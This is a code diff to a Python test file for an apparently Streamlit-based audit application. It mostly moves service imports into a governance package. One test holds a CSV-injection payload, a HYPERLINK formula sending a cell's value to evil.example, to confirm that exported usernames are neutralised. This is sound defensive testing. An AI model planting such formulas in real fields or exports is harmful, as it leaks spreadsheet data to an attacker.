@@ -8,8 +8,8 @@ from pathlib import Path
 import pytest
 from streamlit.testing.v1 import AppTest
 
-from audit.services import auth, identities, sessions, settings
-from audit.services.audit_trail import recent_entries
+from audit.services.governance import auth, identities, sessions, settings
+from audit.services.governance.audit_trail import recent_entries
 
 ROOT = Path(__file__).resolve().parents[2]
 ADMIN = auth.Principal("ada", "admin")
@@ -80,7 +80,7 @@ def test_other_roles_see_no_admin_controls(users, role):
 def test_the_trail_is_read_by_admins_only_and_formulas_are_neutralised(users):
     """Issue 22, hole 6 and the trail's read check: a username typed as a spreadsheet formula reaches the
     admin's table and its CSV download with a leading apostrophe; viewers and auditors see no entries."""
-    from audit.services import throttle
+    from audit.services.governance import throttle
 
     throttle.reset()
     attack = '=HYPERLINK("http://evil.example/?"&A1,"open")'
